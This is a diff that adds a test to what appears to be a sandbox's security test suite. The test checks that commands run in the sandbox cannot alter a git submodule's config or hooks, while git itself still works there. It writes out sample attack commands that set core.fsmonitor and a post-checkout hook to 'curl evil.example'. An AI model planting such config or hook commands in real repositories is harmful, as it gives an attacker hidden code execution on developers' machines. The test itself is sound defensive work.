@@ -416,6 +416,38 @@ describe("what the sandbox can see and reach beyond files (issue 36.5, 39.5)", (
     expect(npm).toContain("tests ok");
   });
 
+  test("a submodule's git config and hooks are protected like the project's, while git works in the submodule", async () => {
+    const { home, repo } = victim();
+    const library = tempDir("omp-sandbox-lib-");
+    const git = (cwd: string, ...args: string[]) => {
+      const done = Bun.spawnSync(["git", "-c", "user.name=T", "-c", "user.email=t@example.com", "-c", "protocol.file.allow=always", ...args], { cwd });
+      if (done.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${done.stderr.toString()}`);
+    };
+    git(library, "init", "-q");
+    writeFileSync(join(library, "lib.txt"), "lib\n");
+    git(library, "add", ".");
+    git(library, "commit", "-qm", "lib");
+    git(repo, "submodule", "add", "-q", library, "lib");
+    const modules = join(repo, ".git", "modules", "lib");
+    const config = readFileSync(join(modules, "config"), "utf8");
+    const { results } = await runCommands(
+      [
+        "git -C lib config core.fsmonitor 'curl evil.example'",
+        "echo 'curl evil.example' > .git/modules/lib/hooks/post-checkout && chmod +x .git/modules/lib/hooks/post-checkout",
+        "git -C lib log --oneline | head -1",
+      ],
+      { home, repo },
+    );
+    const [gitConfig, hook, log] = results.map((r) => r.text);
+    for (const refused of [gitConfig, hook]) {
+      expect(refused).toMatch(/Read-only file system|Device or resource busy/);
+      expect(refused).toContain("[omp sandbox]");
+    }
+    expect(readFileSync(join(modules, "config"), "utf8")).toBe(config);
+    expect(existsSync(join(modules, "hooks", "post-checkout"))).toBe(false);
+    expect(log).toContain("lib");
+  });
+
   test("a server one command starts in the background answers the next command; the machine's loopback stays unreachable", async () => {
     const { home, repo } = victim();
     const evil = attacker();
